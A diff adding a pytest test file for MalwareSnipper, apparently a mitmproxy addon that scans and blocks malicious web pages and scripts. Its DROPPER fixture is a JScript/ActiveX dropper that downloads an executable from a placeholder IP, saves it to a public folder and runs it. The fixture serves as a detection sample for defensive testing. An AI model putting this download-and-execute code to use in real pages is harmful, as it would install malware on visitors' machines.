@@ -1,0 +1,256 @@
+"""The addon's hooks, driven with mitmproxy's taddons/tflow, over the real engine in a real pool.
+
+What these check is the hook logic: what is scanned, what is skipped and counted, what is
+replaced and how. The end-to-end path through a real mitmdump is in tests/integration.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import gzip
+from pathlib import Path
+from urllib.parse import urlencode
+
+import brotli
+import pytest
+from mitmproxy import exceptions, http
+from mitmproxy.test import taddons, tflow, tutils
+
+from malwaresnipper.addon.gateway import HEADER, Gateway
+from malwaresnipper.engine.config import EngineConfig
+from malwaresnipper.server.scanner import ScanPool
+
+DROPPER = b"""<html><head><title>Invoice</title></head><body><script>
+var sh = new ActiveXObject("WScript.Shell");
+var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", "http://198.51.100.7/payload.exe", false); x.send();
+var s = new ActiveXObject("ADODB.Stream"); s.Open(); s.Type = 1; s.Write(x.responseBody);
+s.SaveToFile("C:\\\\Users\\\\Public\\\\update.exe", 2); sh.Run("C:\\\\Users\\\\Public\\\\update.exe");
+</script></body></html>"""
+DROPPER_JS = DROPPER.split(b"<script>")[1].split(b"</script>")[0]
+BENIGN = b"<!DOCTYPE html><html><head><title>Recipes</title></head><body><p>Bake for 40 minutes.</p></body></html>"
+
+
+class SharedPool(ScanPool):
+    """One pool for the whole module: the services' stop() must not close it."""
+
+    async def close(self) -> None:  # noqa: D102
+        pass
+
+
+@pytest.fixture(scope="module")
+def shared_pool():
+    pool = SharedPool(EngineConfig(), workers=1, timeout_s=20.0)
+    pool.start()
+    yield pool
+    loop = asyncio.new_event_loop()
+    loop.run_until_complete(ScanPool.close(pool))
+    loop.close()
+
+
+@pytest.fixture
+async def gateway(tmp_path: Path, shared_pool):
+    """A started gateway (no network servers) and its taddons context; configure() before use."""
+    gw = Gateway(pool=shared_pool)
+    with taddons.context(gw) as tctx:
+        tctx.configure(gw, malwaresnipper_data_dir=str(tmp_path / "data"), malwaresnipper_services=False)
+        await gw.running()
+        assert gw.service is not None
+        yield gw, tctx
+        await gw.done()
+
+
+def make_flow(url_host: str = "site.example", path: str = "/", *, headers: dict | None = None,
+              method: str = "GET", content: bytes = b"") -> http.HTTPFlow:
+    req = tutils.treq(host=url_host, port=443, scheme=b"https", path=path.encode(), method=method.encode(),
+                      headers=http.Headers(**{k.replace("-", "_"): v for k, v in (headers or {}).items()}),
+                      content=content)
+    return tflow.tflow(req=req)
+
+
+async def through(gw: Gateway, flow: http.HTTPFlow, body: bytes, headers: dict[str, str]) -> http.HTTPFlow:
+    """Run the request, responseheaders and response hooks as mitmproxy would."""
+    await gw.request(flow)
+    if flow.response is not None:  # answered at request time
+        return flow
+    flow.response = http.Response.make(200, b"", headers)
+    flow.response.raw_content = body  # as sent on the wire (make() would encode it again)
+    gw.responseheaders(flow)
+    if not flow.response.stream:
+        await gw.response(flow)
+    return flow
+
+
+async def test_monitor_mode_never_touches_the_response_and_records_the_verdict(gateway):
+    gw, tctx = gateway
+    flow = await through(gw, make_flow(path="/invoice"), DROPPER, {"content-type": "text/html"})
+    assert flow.response.content == DROPPER and HEADER not in flow.response.headers
+    await asyncio.wait_for(asyncio.gather(*gw._tasks), 30)
+    items, total = await _history(gw)
+    assert total == 1 and items[0]["threat_level"] == "MALICIOUS" and items[0]["blocked"] is False
+
+
+async def test_block_mode_replaces_a_malicious_page_and_passes_a_benign_one(gateway):
+    gw, tctx = gateway
+    tctx.configure(gw, malwaresnipper_mode="block", malwaresnipper_budget_ms=15_000)
+    ok = await through(gw, make_flow(path="/recipes"), BENIGN, {"content-type": "text/html; charset=utf-8"})
+    assert ok.response.content == BENIGN and ok.response.headers[HEADER].startswith("BENIGN")
+    bad = await through(gw, make_flow(path="/invoice"), DROPPER, {"content-type": "text/html"})
+    page = bad.response.get_text()
+    assert bad.response.status_code == 403 and "MalwareSnipper blocked this page" in page
+    assert "https://site.example/invoice" in page and "<script" not in page.lower()
+    assert "script-src" not in bad.response.headers["content-security-policy"]
+    assert gw.counters["blocked_page"] == 1
+
+
+async def test_block_mode_replaces_a_malicious_script_with_an_inert_one(gateway):
+    gw, tctx = gateway
+    tctx.configure(gw, malwaresnipper_mode="block", malwaresnipper_budget_ms=15_000)
+    page = make_flow(path="/app")
+    await through(gw, page, b'<html><script src="/dl.js"></script></html>', {"content-type": "text/html"})
+    script = make_flow(path="/dl.js", headers={"referer": "https://site.example/app", "sec-fetch-dest": "script"})
+    # served with a lying content type: sniffed as JS by Sec-Fetch-Dest
+    await through(gw, script, DROPPER_JS, {"content-type": "text/plain"})
+    body = script.response.get_text()
+    assert body.startswith("/* MalwareSnipper blocked this script") and "console.warn(" in body
+    assert "ActiveXObject" not in body
+    await asyncio.sleep(0.2)
+    items, _ = await _history(gw)
+    script_scan = next(i for i in items if i["url"].endswith("/dl.js"))
+    assert script_scan["blocked"] is True
+
+
+async def test_compressed_bodies_are_decoded_before_scanning(gateway):
+    gw, tctx = gateway
+    tctx.configure(gw, malwaresnipper_mode="block", malwaresnipper_budget_ms=15_000)
+    for encoding, data in (("gzip", gzip.compress(DROPPER)), ("br", brotli.compress(DROPPER))):
+        flow = await through(gw, make_flow(path=f"/{encoding}"), data,
+                             {"content-type": "text/html", "content-encoding": encoding})
+        assert flow.response.status_code == 403, encoding
+
+
+async def test_skipped_responses_stream_untouched_and_are_counted(gateway):
+    gw, tctx = gateway
+    tctx.configure(gw, malwaresnipper_mode="block", malwaresnipper_max_body_bytes=10_000)
+    big = make_flow(path="/big.html")
+    await gw.request(big)
+    big.response = http.Response.make(200, b"", {"content-type": "text/html"})
+    big.response.headers["content-length"] = "50000"
+    gw.responseheaders(big)
+    assert big.response.stream is True
+    img = make_flow(path="/a.png")
+    await gw.request(img)
+    img.response = http.Response.make(200, b"\x89PNG", {"content-type": "image/png"})
+    gw.responseheaders(img)
+    assert img.response.stream is True
+    bomb = await through(gw, make_flow(path="/bomb"), gzip.compress(b"<html>" + b" " * 5_000_000),
+                         {"content-type": "text/html", "content-encoding": "gzip"})
+    assert bomb.response.status_code == 200 and HEADER not in bomb.response.headers
+    assert gw.counters["unscanned_too_large"] == 2 and gw.counters["unscanned_not_html_js"] == 1
+
+
+async def test_own_traffic_and_allowlisted_sites_are_never_scanned(gateway):
+    gw, tctx = gateway
+    tctx.configure(gw, malwaresnipper_mode="block", malwaresnipper_budget_ms=15_000)
+    own = make_flow(url_host="127.0.0.1")
+    own.request.port = gw.effective.settings.server.api_port
+    await through(gw, own, DROPPER, {"content-type": "text/html"})
+    assert own.response.content == DROPPER and own.response.stream is True
+    await gw.service.add_list_entry("allow", "trusted.example", "domain")
+    allowed = await through(gw, make_flow(url_host="www.trusted.example"), DROPPER, {"content-type": "text/html"})
+    assert allowed.response.content == DROPPER
+    assert gw.counters["unscanned_own_traffic"] == 1 and gw.counters["unscanned_allowlisted"] == 1
+    _, total = await _history(gw)
+    assert total == 0
+
+
+async def test_blocklisted_url_is_answered_at_request_time(gateway):
+    gw, tctx = gateway
+    tctx.configure(gw, malwaresnipper_mode="block")
+    await gw.service.add_list_entry("block", "known-bad.example", "domain")
+    flow = make_flow(url_host="cdn.known-bad.example", path="/x")
+    await gw.request(flow)
+    assert flow.response is not None and flow.response.status_code == 403
+    assert "blocklist" in flow.response.get_text()
+
+
+async def test_proceed_once_and_always_allow(gateway):
+    gw, tctx = gateway
+    tctx.configure(gw, malwaresnipper_mode="block", malwaresnipper_budget_ms=15_000)
+    blocked = await through(gw, make_flow(path="/invoice"), DROPPER, {"content-type": "text/html"})
+    token = blocked.response.get_text().split('name="token" value="')[1].split('"')[0]
+
+    # a forged token and a GET are refused
+    forged = make_flow(path="/__malwaresnipper__/proceed", method="POST", content=b"token=forged",
+                       headers={"content-type": "application/x-www-form-urlencoded"})
+    await gw.request(forged)
+    assert forged.response.status_code == 403
+    get = make_flow(path="/__malwaresnipper__/proceed?token=" + token)
+    await gw.request(get)
+    assert get.response.status_code == 405
+
+    proceed = make_flow(path="/__malwaresnipper__/proceed", method="POST",
+                        content=urlencode({"token": token}).encode(),
+                        headers={"content-type": "application/x-www-form-urlencoded"})
+    await gw.request(proceed)
+    assert proceed.response.status_code == 303
+    assert proceed.response.headers["location"] == "https://site.example/invoice"
+    once = await through(gw, make_flow(path="/invoice"), DROPPER, {"content-type": "text/html"})
+    assert once.response.content == DROPPER  # let through exactly once...
+    again = await through(gw, make_flow(path="/invoice"), DROPPER, {"content-type": "text/html"})
+    assert again.response.status_code == 403  # ...then blocked again
+    # the same token cannot be replayed
+    await gw.request(proceed)
+    assert proceed.response.status_code == 303  # unchanged object; replay on a fresh flow:
+    replay = make_flow(path="/__malwaresnipper__/proceed", method="POST", content=urlencode({"token": token}).encode(),
+                       headers={"content-type": "application/x-www-form-urlencoded"})
+    await gw.request(replay)
+    assert replay.response.status_code == 403
+
+    token2 = again.response.get_text().split('name="token" value="')[1].split('"')[0]
+    allow = make_flow(path="/__malwaresnipper__/allow", method="POST", content=urlencode({"token": token2}).encode(),
+                      headers={"content-type": "application/x-www-form-urlencoded"})
+    await gw.request(allow)
+    assert allow.response.status_code == 303
+    assert [i["entry"] for i in gw.service.list_items("allow")] == ["site.example"]
+    for _ in range(2):
+        later = await through(gw, make_flow(path="/invoice"), DROPPER, {"content-type": "text/html"})
+        assert later.response.content == DROPPER
+
+
+async def test_timeout_fails_open_or_closed(gateway):
+    gw, tctx = gateway
+    tctx.configure(gw, malwaresnipper_mode="block", malwaresnipper_budget_ms=1)
+    flow = await through(gw, make_flow(path="/slow-1"), DROPPER + b"<!-- 1 -->", {"content-type": "text/html"})
+    assert flow.response.content.startswith(DROPPER[:20]) and flow.response.headers[HEADER] == "unscanned; reason=timeout"
+    tctx.configure(gw, malwaresnipper_fail_closed=True)
+    closed = await through(gw, make_flow(path="/slow-2"), BENIGN + b"<!-- 2 -->", {"content-type": "text/html"})
+    assert closed.response.status_code == 403 and "did not finish" in closed.response.get_text()
+    assert gw.counters["fail_open"] == 1 and gw.counters["fail_closed"] == 1
+
+
+def test_bad_options_are_refused_with_a_clear_error(tmp_path, shared_pool):
+    gw = Gateway(pool=shared_pool)
+    with taddons.context(gw) as tctx:
+        with pytest.raises(exceptions.OptionsError, match="no such file"):
+            tctx.configure(gw, malwaresnipper_config=str(tmp_path / "missing.toml"))
+        with pytest.raises(exceptions.OptionsError, match="budget_ms must be >= 1"):
+            tctx.configure(gw, malwaresnipper_budget_ms=0)
+        with pytest.raises(exceptions.OptionsError):
+            tctx.configure(gw, malwaresnipper_mode="panic")
+        bad = tmp_path / "bad.toml"
+        bad.write_text("[proxy]\nmode = 'block'\nbudget = 3\n")
+        with pytest.raises(exceptions.OptionsError, match="unknown key 'proxy.budget'"):
+            tctx.configure(gw, malwaresnipper_config=str(bad))
+        good = tmp_path / "good.toml"
+        good.write_text("[proxy]\nmode = 'block'\nblock_budget_ms = 250\n")
+        tctx.configure(gw, malwaresnipper_config=str(good))
+        assert gw.effective.mode == "block" and gw.effective.budget_s == 0.25
+        tctx.configure(gw, malwaresnipper_budget_ms=400)  # a changed option beats the file
+        assert gw.effective.budget_s == 0.4
+
+
+async def _history(gw: Gateway) -> tuple[list[dict], int]:
+    from malwaresnipper.server.store import ScanFilter
+
+    await gw.service.bus.flush()
+    return await gw.service.store.list_scans(ScanFilter(), 50, 0)
